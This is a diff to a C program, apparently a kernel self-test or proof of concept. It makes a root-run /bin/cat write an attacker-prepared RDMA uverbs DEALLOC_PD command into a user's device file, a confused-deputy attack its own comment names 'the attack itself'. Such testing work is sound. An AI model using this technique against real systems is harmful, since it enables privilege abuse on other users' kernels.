@@ -91,23 +91,37 @@ static void after_setuid(void)
 	CHECK_OK(ioctl_pd(client.fd));
 }
 
+/* A file with a command that needs no answer: that a PD is to go. */
+static int order_in_file(uint32_t pd)
+{
+	struct {
+		struct ib_uverbs_cmd_hdr hdr;
+		struct ib_uverbs_dealloc_pd in;
+	} frame = { .hdr = { IB_USER_VERBS_CMD_DEALLOC_PD, sizeof(frame) / 4, 0 }, .in = { pd } };
+	int file = CHECK_OK(open("/tmp", O_RDWR | O_TMPFILE, 0600));
+
+	CHECK_EQ(write(file, &frame, sizeof(frame)), sizeof(frame));
+	CHECK_OK(lseek(file, 0, SEEK_SET));
+	return file;
+}
+
 /* The attack itself: a user's file is the standard output of a program with more rights. */
 static void as_output(void)
 {
-	int pipes[2];
-	pid_t pid;
+	pid_t pid = CHECK_OK(fork());
 	int status;
 
-	CHECK_OK(pipe(pipes));
-	pid = CHECK_OK(fork());
 	if (!pid) {
 		struct client client;
+		uint32_t pd;
 
 		CHECK_OK(setresuid(1000, 1000, 0));
 		client = open_client();
+		pd = new_pd(client.fd);
 		CHECK_OK(setresuid(0, 0, 0));
+		CHECK_OK(dup2(order_in_file(pd), 0));
 		CHECK_OK(dup2(client.fd, 1));
-		execl("/bin/cat", "cat", "/proc/self/cmdline", NULL);
+		execl("/bin/cat", "cat", NULL);
 		_exit(99);
 	}
 	CHECK_EQ(waitpid(pid, &status, 0), pid);
